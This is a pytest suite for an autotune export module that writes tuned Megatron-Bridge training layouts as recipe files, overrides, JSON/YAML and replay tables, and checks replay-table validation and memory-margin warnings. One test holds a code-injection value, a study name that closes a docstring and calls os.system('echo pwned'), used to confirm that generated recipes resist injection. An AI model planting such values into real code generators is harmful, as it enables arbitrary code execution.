"""Export: recipe files compile, build on the recipe the trials ran and set exactly the tuned fields;
overrides round-trip; the numbers are called measured, simulated or replayed as they are; refusals."""

from __future__ import annotations

import ast
import json
import sys
import types

import pandas as pd
import pytest
import yaml

from autotune import export
from autotune.config import LayoutConfig
from autotune.errors import StudyError
from autotune.megatron.overrides import config_from_overrides, parse_overrides
from autotune.storage import Repository
from tests.conftest import allow_runs

# Every ConfigContainer path the exporter and the workers may set, as read from Megatron-Bridge 0.6 /
# Megatron-Core 0.19 (ConfigContainer in training/config.py, TransformerConfig / GPTModelProvider).
# tests/test_probe.py checks them against the real code where Python 3.12 is available.
BRIDGE_FIELDS = {
    "model.tensor_model_parallel_size", "model.pipeline_model_parallel_size",
    "model.virtual_pipeline_model_parallel_size", "model.context_parallel_size", "model.sequence_parallel",
    "model.expert_model_parallel_size", "model.expert_tensor_parallel_size", "model.seq_length",
    "model.recompute_granularity", "model.recompute_method", "model.recompute_num_layers", "model.cuda_graph_impl",
    "train.micro_batch_size", "train.global_batch_size", "dataset.seq_length", "ddp.use_distributed_optimizer",
    "optimizer.use_distributed_optimizer", "optimizer.use_precision_aware_optimizer", "mixed_precision",
    "optimizer.main_grads_dtype", "optimizer.main_params_dtype", "optimizer.exp_avg_dtype", "optimizer.exp_avg_sq_dtype",
    # performance knobs (issue 16), each accepted by Megatron-Bridge's parser and validate() (tests/test_probe.py)
    "model.moe_token_dispatcher_type", "model.moe_flex_dispatcher_backend", "model.moe_flex_dispatcher_num_sms",
    "comm_overlap.overlap_moe_expert_parallel_comm", "model.moe_shared_expert_overlap", "model.cuda_graph_scope",
    "model.use_te_rng_tracker", "rng.te_rng_tracker", "rerun_state_machine.check_for_nan_in_loss",
    "model.recompute_modules", "comm_overlap.tp_comm_overlap", "comm_overlap.overlap_grad_reduce",
    "comm_overlap.overlap_param_gather", "model.cp_comm_type", "model.cpu_offloading", "model.cpu_offloading_num_layers",
    "model.cpu_offloading_activations", "model.cpu_offloading_weights",
}


def _study_with_trial(tmp_path, config: dict, status="completed", model="qwen3_30b", gpus=16, name="ex",
                      backend="simulate", backend_options=None):
    repo = Repository.open(f"sqlite:///{tmp_path / 'ex.db'}")
    from autotune.space import load_space, make_workload

    space = load_space(model)
    workload = make_workload(space, gpus=gpus)
    study = repo.create_study(name=name, model=model, workload=workload.to_dict(), space=space.to_dict(), budget=2,
                              sampler="auto", backend=backend, backend_options=backend_options or {}, options={},
                              optuna_study_name=f"autotune:{name}", status="finished")
    layout = LayoutConfig.from_mapping(config)
    trial = repo.claim_dispatch(study.id, layout.to_dict(), layout.key(), 0, "c", 2)
    repo.finish_trial(study.id, trial.number, status,
                      metrics={"step_time_s": 30.0, "tokens_per_s_per_gpu": 8000.0, "tflops_per_gpu": 184.0,
                               "mfu": 0.186, "peak_mem_gib": 70.5})
    return repo, repo.get_study(name), layout


def _assignments(source: str) -> dict[str, object]:
    tree = ast.parse(source)
    function = next(n for n in tree.body if isinstance(n, ast.FunctionDef))
    values = {}
    for node in function.body:
        if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Attribute):
            path = ast.unparse(node.targets[0]).removeprefix("cfg.")
            values[path] = ast.literal_eval(node.value)
    return values


FULL = {"tp": 2, "pp": 2, "vpp": 2, "ep": 8, "sp": True, "mbs": 2, "recompute": "full", "recompute_method": "block",
        "recompute_num_layers": 2, "dist_opt": True}


def test_recipe_compiles_names_the_recipe_and_sets_exactly_the_tuned_values(tmp_path):
    repo, study, layout = _study_with_trial(tmp_path, FULL)
    source = export.render(repo, study, "recipe")
    compile(source, "recipe.py", "exec")
    assert ("from megatron.bridge.recipes.qwen.h100.qwen3_moe import qwen3_30b_a3b_pretrain_16gpu_h100_bf16_config "
            "as _base_recipe") in source
    values = _assignments(source)
    assert set(values) <= BRIDGE_FIELDS
    assert values["model.tensor_model_parallel_size"] == 2
    assert values["model.virtual_pipeline_model_parallel_size"] == 2
    assert values["model.expert_model_parallel_size"] == 8 and values["model.sequence_parallel"] is True
    assert values["model.recompute_granularity"] == "full" and values["model.recompute_method"] == "block"
    assert values["model.recompute_num_layers"] == 2 and values["model.cuda_graph_impl"] == "none"
    assert values["train.micro_batch_size"] == 2 and values["train.global_batch_size"] == 1024
    assert values["ddp.use_distributed_optimizer"] is values["optimizer.use_distributed_optimizer"] is True
    namespace: dict = {}
    exec(compile(source.replace("from megatron.bridge.recipes.", "# "), "r", "exec"), namespace)
    assert namespace["AUTOTUNE_PROVENANCE"]["metrics"]["tokens_per_s_per_gpu"] == 8000.0


def test_deepseek_recipe_recomputes_its_pipeline_layout(tmp_path):
    repo, study, _ = _study_with_trial(tmp_path, {"tp": 2, "pp": 16, "ep": 64, "sp": True, "dist_opt": True},
                                       model="deepseek_v3", gpus=1024)
    source = export.render(repo, study, "recipe")
    compile(source, "recipe.py", "exec")
    assert "set_deepseek_v3_pipeline_model_parallel_layout as _set_pipeline_layout" in source
    assert "_set_pipeline_layout(cfg.model)" in source


def test_study_strings_cannot_inject_code(tmp_path):
    # a study name is printable (no line break: refused by `start` and where the store is read), so the
    # attack stays on one line: close the docstring or string, then run a statement after a semicolon
    repo, study, _ = _study_with_trial(tmp_path, FULL, name='x"""; import os; os.system("echo pwned") #\'')
    source = export.render(repo, study, "recipe")
    tree = ast.parse(source)
    imports = [ast.unparse(n) for n in tree.body if isinstance(n, (ast.Import, ast.ImportFrom))]
    assert all("megatron" in i or "__future__" in i for i in imports)
    assert not any(isinstance(n, ast.Expr) and isinstance(n.value, ast.Call) for n in tree.body)


def test_overrides_round_trip_and_carry_the_torchrun_command(tmp_path):
    repo, study, layout = _study_with_trial(tmp_path, FULL)
    text = export.render(repo, study, "overrides")
    lines = [line for line in text.splitlines() if line and not line.startswith("#")]
    assert set(parse_overrides(lines)) <= BRIDGE_FIELDS
    assert config_from_overrides(lines) == layout
    command = next(line for line in text.splitlines() if "torchrun" in line)
    assert "--nnodes=2 --nproc-per-node=8" in command
    assert "--recipe qwen3_30b_a3b_pretrain_16gpu_h100_bf16_config " in command  # the function the trials ran


def test_the_torchrun_line_passes_every_override_through_a_shell_unchanged(tmp_path):
    """A list override (`model.recompute_modules=[core_attn,mlp]`) is a glob pattern: unquoted, bash
    replaces it by a matching file name of the working directory. Run the line's arguments through a
    real bash in a directory holding such a file: every override must arrive as exported."""
    import shlex
    import subprocess

    config = {**FULL, "recompute": "selective", "recompute_modules": "core_attn+mlp",
              "recompute_method": None, "recompute_num_layers": None}
    repo, study, layout = _study_with_trial(tmp_path, config)
    text = export.render(repo, study, "overrides")
    overrides = [line for line in text.splitlines() if line and not line.startswith("#")]
    listed = [o for o in overrides if "[" in o]
    assert listed, "the layout should give a list override"
    for o in listed:  # a file the unquoted pattern would match: [core_attn,mlp] matches one character
        (tmp_path / (o.split("[")[0] + "m")).write_text("")
    command = next(line for line in text.splitlines() if "torchrun" in line).removeprefix("# ")
    arguments = command.split(" scripts/training/run_recipe.py ", 1)[1]
    shown = subprocess.run(["bash", "-c", f"printf '%s\\n' {arguments}"], cwd=tmp_path, capture_output=True,
                           text=True, check=True).stdout.splitlines()
    assert shown[2:] == overrides and shlex.split(arguments)[2:] == overrides


def test_yaml_and_json_documents(tmp_path):
    repo, study, layout = _study_with_trial(tmp_path, FULL)
    as_json = json.loads(export.render(repo, study, "json"))
    as_yaml = yaml.safe_load(export.render(repo, study, "yaml"))
    assert as_json["config"] == layout.to_dict() == as_yaml["config"]
    assert as_json["metrics"]["tokens_per_s_per_gpu"] == 8000.0
    assert as_yaml["recipe_function"] == "qwen3_30b_a3b_pretrain_16gpu_h100_bf16_config"
    assert as_yaml["recipe_target"] == "megatron.bridge.recipes.qwen.h100.qwen3_moe:" + as_yaml["recipe_function"]


def test_table_export_feeds_the_replay_backend(tmp_path):
    import threading

    from autotune.backends import TrialStatus, create_backend
    from tests.backends.backend_suite import make_spec

    repo, study, layout = _study_with_trial(tmp_path, FULL)
    path = tmp_path / "table.csv"
    path.write_text(export.render(repo, study, "table"))
    assert len(pd.read_csv(path)) == 1
    backend = create_backend("replay", {"replay": str(path)})
    spec = make_spec(config=layout.to_dict())
    outcome = backend.run(spec, lambda r: None, threading.Event())
    assert outcome.status == TrialStatus.COMPLETED and outcome.step_time_s == 30.0
    # charged as a simulated run would be (review: a replayed study read "GPU-hours 0.00"): start-up and steps
    from autotune.backends.simulate import STARTUP_S

    assert outcome.wall_time_s == pytest.approx(STARTUP_S + (spec.warmup_steps + spec.measured_steps) * 30.0)
    missing = backend.run(make_spec(config={"tp": 8, "ep": 2}), lambda r: None, threading.Event())
    assert missing.status == TrialStatus.FAILED and missing.wall_time_s == 0.0  # no run: nothing charged


def test_a_replay_tables_straggler_row_is_left_out_by_the_studys_rule(tmp_path):
    """Found by review: a table's rows of one layout were merged by their mean, so a study's own exported table
    with a run on a slow node (3x slower: the study left it out of the layout's figure) replayed that layout as
    half as fast. The rows are judged by the study's straggler rule; a pair that disagrees stays merged (two runs
    cannot say which strayed, as the recommendation counts their average once)."""
    from autotune.backends.replay import read_table, repeated_rows, table_index

    rest = ("vpp,cp,etp,mbs,sp,dist_opt,recompute,recompute_method,recompute_num_layers", "1,1,1,1,False,False,none,,")
    path = tmp_path / "stragglers.csv"
    rows = ["1,1,16,completed,30.0", "1,1,16,completed,30.6", "1,1,16,completed,90.0", "1,1,16,completed,29.7",
            "2,1,8,completed,20.0", "2,1,8,completed,20.4", "4,1,4,completed,40.0", "4,1,4,completed,41.0",
            "1,2,8,completed,50.0", "1,2,8,completed,150.0"]
    path.write_text(f"tp,pp,ep,status,step_time_s,{rest[0]}\n" + "".join(f"{r},{rest[1]}\n" for r in rows))
    index = table_index(read_table(path))
    assert index[LayoutConfig.from_mapping({"ep": 16}).key()]["step_time_s"] == pytest.approx((30.0 + 30.6 + 29.7) / 3)
    assert index[LayoutConfig.from_mapping({"tp": 2, "ep": 8}).key()]["step_time_s"] == pytest.approx(20.2)
    assert index[LayoutConfig.from_mapping({"pp": 2, "ep": 8}).key()]["step_time_s"] == pytest.approx(100.0)  # a pair
    assert repeated_rows(path) == (4, 0, 1)
    # and `start` says so before it replays
    from tests.conftest import run_cli

    result = run_cli("start", "--model", "qwen3_30b", "--gpus", "16", "--budget", "2", "--backend", "replay",
                     "--replay", str(path), "--storage", f"sqlite:///{tmp_path / 's.db'}", "--study", "s",
                     "--local-gpus", "16")
    assert result.returncode == 0, result.stderr[-2000:]
    assert "4 layout(s) have several rows, replayed as one (their mean step time, 1 row(s) left out as stragglers " \
        "by the study's rule)" in " ".join(result.stdout.split())
    more = tmp_path / "more.csv"
    # review: the study's cap of 10 stragglers kept every one of a table's 11 or more (several sweeps joined); a
    # layout replayed as its OOM row has nothing left out; rows giving only a throughput are judged by it
    many = [f"{tp},{pp},{ep},completed,{step}" for i, (tp, pp, ep) in enumerate(
        (tp, pp, ep) for tp in (1, 2, 4) for pp in (1, 2, 4) for ep in (1, 2, 4, 8))
        for step in (20.0 + i, 20.3 + i, 60.0 + 3 * i if i < 14 else 20.1 + i)]
    more.write_text(f"tp,pp,ep,status,step_time_s,{rest[0]}\n" + "".join(f"{r},{rest[1]}\n" for r in many))
    assert repeated_rows(more) == (36, 0, 14)
    assert table_index(read_table(more))[LayoutConfig.from_mapping({}).key()]["step_time_s"] == pytest.approx(20.15)
    more.write_text(f"tp,pp,ep,status,step_time_s,tokens_per_s_per_gpu,{rest[0]}\n" + "".join(
        f"{r},{rest[1]}\n" for r in [*(f"{r}," for r in rows[:4]), "1,1,16,oom,,", "2,1,8,completed,20.0,13107.2",
                                      "2,1,8,completed,20.4,", "2,1,8,completed,,12900", "2,1,8,completed,,4400",
                                      *(f"{r}," for r in rows[6:])]))
    index = table_index(read_table(more))
    assert index[LayoutConfig.from_mapping({"ep": 16}).key()]["status"] == "oom"
    tp2 = index[LayoutConfig.from_mapping({"tp": 2, "ep": 8}).key()]
    assert tp2["step_time_s"] == pytest.approx(20.2)  # the throughput-only row 4400 (3x slow) is its straggler:
    assert tp2["tokens_per_s_per_gpu"] == pytest.approx(2 / (1 / 13107.2 + 1 / 12900))  # not in the throughput
    assert repeated_rows(more) == (4, 1, 1)  # and ep16's 90 s row is not counted: it replays as its OOM row


def test_a_replay_table_is_checked_row_by_row_and_repeated_runs_replay_as_their_mean(tmp_path):
    import threading

    from autotune.backends import TrialStatus, create_backend
    from autotune.backends.replay import read_table, table_index
    from autotune.errors import ConfigError
    from tests.backends.backend_suite import make_spec

    layout = LayoutConfig.from_mapping({"ep": 16})
    # every layout knob is a column; the ones this test does not vary hold their defaults
    rest = ("vpp,cp,etp,mbs,sp,dist_opt,recompute,recompute_method,recompute_num_layers", "1,1,1,1,False,False,none,,")
    header = f"tp,pp,ep,status,step_time_s,tokens_per_s_per_gpu,peak_mem_gib,{rest[0]}\n"

    def table(*rows: str) -> str:
        return header + "".join(f"{row},{rest[1]}\n" for row in rows)

    path = tmp_path / "runs.csv"
    # a layout run twice (a study's table holds re-measured layouts), apart (20 s and 30 s); a layout that
    # completed once and ran out of memory once (it does not fit reliably: replayed as the OOM); one that only
    # failed and ran out of memory; a status of an older export
    tokens = {10.0: 26214.4, 20.0: 13107.2, 30.0: 8738.13}  # qwen3_30b on 16 GPUs, GBS 1024 x 4096 tokens
    path.write_text(table(f"1,1,16,completed,20.0,{tokens[20.0]},60", f"1,1,16,completed,30.0,{tokens[30.0]},62",
                          f"2,1,8,completed,10.0,{tokens[10.0]},70", "2,1,8,failed,,,", "2,1,8,oom,,,90",
                          "4,1,4,pruned,,,"))
    index = table_index(read_table(path))
    assert index[layout.key()]["step_time_s"] == pytest.approx(25.0)
    assert index[layout.key()]["tokens_per_s_per_gpu"] == pytest.approx(10485.76, rel=1e-4)  # agrees with 25 s
    assert index[layout.key()]["peak_mem_gib"] == 62
    assert index[LayoutConfig.from_mapping({"tp": 2, "ep": 8}).key()]["status"] == "oom"
    assert index[LayoutConfig.from_mapping({"tp": 4, "ep": 4}).key()]["status"] == "failed"
    outcome = create_backend("replay", {"replay": str(path)}).run(make_spec(config=layout.to_dict()), lambda r: None,
                                                                  threading.Event())
    assert outcome.status == TrialStatus.COMPLETED and outcome.step_time_s == pytest.approx(25.0)
    # what `start` says of it: two layouts have several rows, and both mix outcomes (review: said nothing)
    from autotune.backends.replay import repeated_rows

    assert repeated_rows(path) == (2, 1, 0)
    for bad, needle in [(["1,1,16,exploded,30.0,8000,60"], "row 2: status 'exploded'"),
                        (["1,1,16,,30.0,8000,60"], "row 2: the status is empty"),
                        (["1,1,16,completed,nan,,60"], "row 2: completed without"),
                        (["1,1,16,completed,30.0,-5,60"], "row 2: tokens_per_s_per_gpu = '-5'"),
                        (["1,1,16,completed,30.0,inf,60"], "row 2: tokens_per_s_per_gpu"),
                        (["1,x,16,completed,30.0,8000,60"], "row 2: not a layout"),
                        # review: repeated rows a factor apart were averaged, an impossible figure hidden in the mean
                        ([f"1,1,16,completed,3.0,{tokens[10.0] * 10 / 3},60", f"1,1,16,completed,30.0,{tokens[30.0]},62"],
                         "rows 2 and 3: the same layout with step_time_s 3 and 30, a factor 10 apart"),
                        (["1,1,16,completed,1e-300,1e300,60", f"1,1,16,completed,30.6,{tokens[30.0]},62"],
                         "rows 2 and 3: the same layout with step_time_s 1e-300 and 30.6")]:
        path.write_text(table(*bad))
        with pytest.raises(ConfigError, match=needle.replace("(", "\\(")):
            table_index(read_table(path))
    # review: a table without a layout knob's column replayed every row at that knob's default (EP 1)
    path.write_text(f"tp,pp,status,step_time_s,{rest[0]}\n1,1,completed,30.0,{rest[1]}\n")
    with pytest.raises(ConfigError, match="lacks column 'ep': a replay table names every layout knob"):
        read_table(path)
    path.write_bytes(header.encode() + b"1,1,16,completed,30.0,\xff,60," + rest[1].encode() + b"\n")
    with pytest.raises(ConfigError, match=r"is not UTF-8 text \(it holds the byte b'\\xff'\)"):
        read_table(path)
    path.write_text(header)
    with pytest.raises(ConfigError, match="has no rows"):
        read_table(path)


def test_refuses_without_a_completed_trial(tmp_path):
    repo, study, _ = _study_with_trial(tmp_path, FULL, status="oom")
    with pytest.raises(StudyError, match="no completed trial"):
        export.render(repo, study, "recipe")
    with pytest.raises(StudyError, match="is oom, not completed"):
        export.render(repo, study, "recipe", trial_number=1)


def test_export_cli_writes_a_file(cli, tmp_path):
    repo, study, _ = _study_with_trial(tmp_path, FULL)
    out = tmp_path / "tuned.py"
    result = cli("export", "ex", "--format", "recipe", "-o", str(out), "--storage", repo.url)
    assert result.returncode == 0, result.stderr
    compile(out.read_text(), str(out), "exec")
    # it says what it wrote: the path, the format, which trial and why, and what the numbers are
    said = result.stdout.strip()
    assert said.startswith(f"wrote {out}: a recipe module building on qwen3_30b_a3b_pretrain_16gpu_h100_bf16_config")
    assert "trial 1 of study 'ex' (the study's recommendation): simulated 8,000 ±240 tokens/s/GPU" in said
    table = cli("export", "ex", "--format", "table", "-o", str(tmp_path / "t.csv"), "--storage", repo.url)
    assert table.stdout.strip() == f"wrote {tmp_path / 't.csv'}: a replay table of 1 trial(s) (completed, OOM and " \
                                   "failed) of study 'ex'"
    to_stdout = cli("export", "ex", "--trial", "1", "--format", "json", "--storage", repo.url)
    dash = cli("export", "ex", "--trial", "1", "--format", "json", "-o", "-", "--storage", repo.url, cwd=tmp_path)
    assert json.loads(dash.stdout)["trial"] == 1 and not (tmp_path / "-").exists()  # review: '-' was a file
    assert json.loads(to_stdout.stdout)["trial"] == 1  # stdout holds the export alone; the note is on stderr
    assert "wrote the export to stdout: a JSON document, trial 1 of study 'ex' (--trial 1)" in to_stdout.stderr
    refused = cli("export", "ex", "--trial", "7", "--format", "json", "--storage", repo.url)
    assert refused.returncode == 2 and "no trial 7" in refused.stderr


def test_a_chosen_trial_is_not_headed_as_the_recommendation_and_a_running_study_is_said_to_be(cli, tmp_path):
    """Found by review: `--trial 0` (the recipe's own layout) was headed "the layout a tuning study recommends",
    and an export in the middle of a study gave its current recommendation without a word."""
    from autotune.storage import StudyStatus

    repo, study, _ = _study_with_trial(tmp_path, FULL)
    slower = LayoutConfig.from_mapping({**FULL, "mbs": 1})
    trial = repo.claim_dispatch(study.id, slower.to_dict(), slower.key(), 1, "c", 3)
    repo.finish_trial(study.id, trial.number, "completed", metrics={
        "step_time_s": 40.0, "tokens_per_s_per_gpu": 6000.0, "tflops_per_gpu": 138.0, "mfu": 0.14, "peak_mem_gib": 60.0})
    best = export.render(repo, study, "recipe")
    assert "# Generated by autotune" in best and "the layout a tuning study recommends (simulated 8,000" in best
    chosen = export.render(repo, study, "recipe", trial.number)
    assert f"the layout of trial {trial.number} of a tuning study (simulated 6,000" in chosen
    assert "recommends" not in chosen
    compile(chosen, "chosen.py", "exec")
    finished = cli("export", "ex", "--format", "json", "--storage", repo.url)
    assert finished.returncode == 0 and "may still change" not in finished.stderr
    repo.set_study_status(study.id, StudyStatus.RUNNING)
    running = cli("export", "ex", "--format", "json", "--storage", repo.url)
    assert running.returncode == 0, running.stderr
    assert "note: study 'ex' is running (2 of 2 runs dispatched): its recommendation may still change" in running.stderr
    assert json.loads(running.stdout)["trial"] == 1  # the export itself is unchanged


def test_export_refuses_a_file_name_promising_another_format_and_writes_parquet_by_its_suffix(cli, tmp_path):
    """`-o` ending in another format's suffix is refused before anything is written (a JSON document
    named .parquet would fail whoever reads it as Parquet); the table's Parquet suffix is case-blind."""
    import pandas as pd

    repo, study, _ = _study_with_trial(tmp_path, FULL)
    for fmt, name in (("json", "t.parquet"), ("recipe", "r.yaml"), ("table", "t.json"), ("overrides", "o.py")):
        result = cli("export", "ex", "--format", fmt, "-o", str(tmp_path / name), "--storage", repo.url)
        assert result.returncode == 2 and "names" in result.stderr and f"--format {fmt} writes" in result.stderr
        assert not (tmp_path / name).exists()
    for fmt, name in (("table", "t.csv.gz"), ("json", "w.json.xz"), ("table", "t.tar"), ("json", "w.json.br"),
                      ("json", "t.parquet.")):  # written uncompressed, or another format behind a trailing dot
        result = cli("export", "ex", "--format", fmt, "-o", str(tmp_path / name), "--storage", repo.url)
        assert result.returncode == 2 and ("names a compressed file" in result.stderr
                                           or "names a Parquet table" in result.stderr)
        assert not (tmp_path / name).exists()
    # a link and its target promising different tables: one of the two names would lie about the content
    for link, real, content in (("l.csv", "t.parquet", b"PAR1"), ("l.parquet", "t.csv", b"tp,pp\n")):
        (tmp_path / real).write_bytes(content)
        (tmp_path / link).symlink_to(tmp_path / real)
        result = cli("export", "ex", "--format", "table", "-o", str(tmp_path / link), "--storage", repo.url)
        assert result.returncode == 2 and "but links to" in result.stderr
        assert (tmp_path / real).read_bytes() == content
    # a link named .parquet to a file without a suffix gets Parquet; JSON may go to YAML through a link too
    (tmp_path / "blob").write_bytes(b"")
    (tmp_path / "out.parquet").symlink_to(tmp_path / "blob")
    result = cli("export", "ex", "--format", "table", "-o", str(tmp_path / "out.parquet"), "--storage", repo.url)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "blob").read_bytes().startswith(b"PAR1")
    (tmp_path / "doc.yaml").write_text("")
    (tmp_path / "doc.json").symlink_to(tmp_path / "doc.yaml")
    result = cli("export", "ex", "--format", "json", "-o", str(tmp_path / "doc.json"), "--storage", repo.url)
    assert result.returncode == 0, result.stderr
    (tmp_path / "real.json").write_text("{}")
    (tmp_path / "link.csv").symlink_to(tmp_path / "real.json")  # the file written is the link's target
    result = cli("export", "ex", "--format", "table", "-o", str(tmp_path / "link.csv"), "--storage", repo.url)
    assert result.returncode == 2 and "'real.json' names JSON" in result.stderr
    assert (tmp_path / "real.json").read_text() == "{}"
    result = cli("export", "ex", "--format", "json", "-o", "", "--storage", repo.url)
    assert result.returncode == 2 and "-o needs a file name" in result.stderr
    # a quoting slip: a name that ends (or starts) with white space is refused, nothing written
    for name in ("tuned.json ", " tuned.json", "tuned.json\t"):
        result = cli("export", "ex", "--format", "json", "-o", str(tmp_path / name), "--storage", repo.url)
        assert result.returncode == 2 and "white space" in result.stderr and "Traceback" not in result.stderr
        assert not (tmp_path / name).exists() and not (tmp_path / name.strip()).exists()
    (tmp_path / "kept ").write_text("")  # a file that has that name already is the user's choice
    assert cli("export", "ex", "--format", "json", "-o", str(tmp_path / "kept "), "--storage", repo.url).returncode == 0
    # no suffix of another format; JSON is YAML, so a JSON document may be named .yaml
    for fmt, name in (("overrides", "o.sh"), ("yaml", "w.yml"), ("json", "w.JSON"), ("json", "j.yaml")):
        assert cli("export", "ex", "--format", fmt, "-o", str(tmp_path / name), "--storage", repo.url).returncode == 0
    result = cli("export", "ex", "--format", "table", "-o", str(tmp_path / "t.PQ"), "--storage", repo.url)
    assert result.returncode == 0, result.stderr
    assert len(pd.read_parquet(tmp_path / "t.PQ")) == 1


def test_export_takes_the_recommendation_and_warns_about_a_faster_layout_inside_the_memory_margin(tmp_path, cli):
    """The default export is what `autotune start` recommends: the best estimate that keeps the headroom;
    a faster run that peaked inside the margin is named on stderr, and --trial still exports it."""
    repo, study, safe = _study_with_trial(tmp_path, FULL)  # trial 1: 8,000 tokens/s at 70.5 GiB
    risky = LayoutConfig.from_mapping({**FULL, "mbs": 1})
    trial = repo.claim_dispatch(study.id, risky.to_dict(), risky.key(), 1, "c", 2)
    repo.finish_trial(study.id, trial.number, "completed",  # faster, but 79 of 79.6 GiB: inside the 3.2 GiB margin
                      metrics={"step_time_s": 27.0, "tokens_per_s_per_gpu": 8900.0, "tflops_per_gpu": 204.0,
                               "mfu": 0.207, "peak_mem_gib": 79.0})
    assert export.choose_trial(repo, study, None).config_key == safe.key()
    from autotune import leaderboard

    summary = leaderboard.build(repo, study).summary  # the end-of-study summary gives the same answer
    assert (summary["best_trial"], summary["risky_faster_trials"]) == (1, [trial.number])
    assert summary["best_tokens_per_s_per_gpu"] == 8000.0 and summary["memory_headroom_gib"] == pytest.approx(3.2)
    url = str(repo.engine.url)
    result = cli("export", "ex", "--format", "json", "--storage", url)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["trial"] == 1
    assert f"trial {trial.number} simulated 8,900" in result.stderr and "--trial 2" in result.stderr  # a simulate study
    chosen = cli("export", "ex", "--format", "json", "--trial", "2", "--storage", url)
    # exported, and said to be at risk (a new-user pass: it went out without a word)
    assert json.loads(chosen.stdout)["trial"] == 2 and "note: trial 2's layout is at risk: it peaked at 79.0 GiB, " \
        "inside the 3.2 GiB memory margin; the study recommends trial 1" in " ".join(chosen.stderr.split())
    assert "but peaked at 79.0 GiB, inside the 3.2 GiB memory margin; exported the safe trial 1" in \
        " ".join(result.stderr.split())
    # review: a layout at risk only because one of its runs ran out of memory (no peak measured) crashed the
    # warning, which also said "inside the margin"; it now says why
    with repo.engine.begin() as c:
        c.exec_driver_sql("UPDATE autotune_trials SET peak_mem_gib = NULL")
    allow_runs(repo, study.id, 10)
    again = repo.claim_dispatch(study.id, risky.to_dict(), risky.key(), 3, "c", 10, dispatch_key="again")
    repo.finish_trial(study.id, again.number, "oom", reason="out_of_memory", metrics={"peak_mem_gib": 81.0})
    oom = cli("export", "ex", "--format", "json", "--storage", url)
    assert oom.returncode == 0 and json.loads(oom.stdout)["trial"] == 1, oom.stderr
    assert "but ran out of memory in one of its runs; exported the safe trial 1" in " ".join(oom.stderr.split())


def test_one_export_pools_the_runs_once(tmp_path, monkeypatch, capsys):
    """The recommendation fits the pooled estimate over every run; an export asked for it up to six times
    (the trial, its figure, the recipe header, two notes, the message). It is computed once and passed on."""
    from autotune.cli import main
    from autotune.controller import recommend

    repo, study, _ = _study_with_trial(tmp_path, FULL)
    other = LayoutConfig.from_mapping({**FULL, "mbs": 1})
    trial = repo.claim_dispatch(study.id, other.to_dict(), other.key(), 1, "c", 2)
    repo.finish_trial(study.id, trial.number, "completed",  # faster, inside the margin: both notes have work
                      metrics={"step_time_s": 27.0, "tokens_per_s_per_gpu": 8900.0, "tflops_per_gpu": 204.0,
                               "mfu": 0.207, "peak_mem_gib": 79.0})
    calls = []
    real = recommend.study_recommendation
    monkeypatch.setattr(recommend, "study_recommendation", lambda *a, **k: calls.append(1) or real(*a, **k))
    for extra in ((), ("--trial", str(trial.number))):
        calls.clear()
        assert main(["export", "ex", "--format", "recipe", "--storage", str(repo.engine.url), *extra]) == 0
        assert len(calls) == 1, extra
    err = " ".join(capsys.readouterr().err.split())
    assert "exported the safe trial 1" in err and f"note: trial {trial.number}'s layout is at risk" in err


def test_a_chosen_trial_is_at_risk_by_its_own_peak_or_its_layouts_and_a_validation_run_quotes_its_own_figure(
        tmp_path, cli):
    """Review of the shared risk rule: a validation run peaking inside the margin went out without a word (the
    layout's screening runs kept it), a note quoted a peak that was another run's without naming it, the at-risk
    recommendation was told to "recommend" itself, and a validation run was quoted at its screening runs' mean."""
    from autotune import leaderboard
    from autotune.storage import TrialOrigin

    repo, study, safe = _study_with_trial(tmp_path, FULL)  # trial 1: 8,000 tokens/s at 70.5 GiB (limit 76.4)
    allow_runs(repo, study.id, 4)
    url = str(repo.engine.url)

    def run(layout, peak, tokens=8000.0, origin=TrialOrigin.STUDY, key=None):
        trial = repo.claim_dispatch(study.id, layout.to_dict(), layout.key(), None, "c", 4, predicted={},
                                    dispatch_key=key or layout.key(), origin=origin)
        repo.finish_trial(study.id, trial.number, "completed", step_times_s=[30.0] * 12,
                          metrics={"step_time_s": 30.0, "tokens_per_s_per_gpu": tokens, "peak_mem_gib": peak})
        return trial.number

    validation = run(safe, 78.5, 7900.0, TrialOrigin.VALIDATION, f"{safe.key()}#validation")
    # the recommendation is judged by its screening runs (a rule taking the validation peak in too was tried and
    # undone: it recommended a layout no validation ran, which the validation line could not tell); the
    # validation line says the peak
    summary = leaderboard.build(repo, study).summary
    assert summary["best_risk"] is None and summary["validation_runs"][0]["inside_margin"]
    assert "peaking at 78.5 GiB, inside the 3.2 GiB memory margin" in leaderboard.validation_note(summary)
    chosen = cli("export", "ex", "--format", "json", "--trial", str(validation), "--storage", url)
    assert chosen.returncode == 0, chosen.stderr
    words = " ".join(chosen.stderr.split())
    assert f"note: trial {validation}'s layout is at risk: it peaked at 78.5 GiB, inside the 3.2 GiB memory " \
        "margin" in words
    # its own figure, called a validation run, not the screening runs' 8,000
    assert "simulated 7,900 ±" in words and json.loads(chosen.stdout)["layout_mean"]["trials"] == [validation]
    # show: each kind of run names the other
    view = leaderboard.trial_view(repo, study, repo.trial(study.id, validation))
    assert [r["trial"] for r in view["layout_screening_runs"]] == [1] and view["layout_validation_runs"] == []
    assert leaderboard.trial_view(repo, study, repo.trial(study.id, 1))["layout_validation_runs"] == \
        [{"trial": validation, "status": "completed", "tokens_per_s_per_gpu": 7900.0}]
    # a layout judged by its other screening run's peak: named with that run
    other = LayoutConfig.from_mapping({**FULL, "mbs": 1})
    low, high = run(other, 70.0, 7000.0), run(other, 77.0, 7100.0, key=f"{other.key()}#again")
    words = " ".join(cli("export", "ex", "--format", "json", "--trial", str(low), "--storage", url).stderr.split())
    assert f"it peaked at 77.0 GiB in its run of trial {high}, inside the 3.2 GiB memory margin; the study " \
        "recommends trial 1" in words
    # nothing keeps the margin: the recommendation is at risk, and said to be the recommendation
    with repo.engine.begin() as c:
        c.exec_driver_sql("UPDATE autotune_trials SET peak_mem_gib = 79.0")
    words = " ".join(cli("export", "ex", "--format", "json", "--trial", "1", "--storage", url).stderr.split())
    assert "note: trial 1's layout is at risk: it peaked at 79.0 GiB, inside the 3.2 GiB memory margin; it is " \
        "the study's recommendation all the same: no layout kept the 3.2 GiB memory margin" in words
    status = cli("status", "--storage", url, "--json")
    assert json.loads(status.stdout)[0]["best_risk"]
    assert " at risk" in cli("status", "--storage", url).stdout  # flagged where no note stands beside it
    assert " at risk" in cli("compare", "ex", "--storage", url).stdout
    # a validation run that ran out of memory is named under the layout's screening runs too
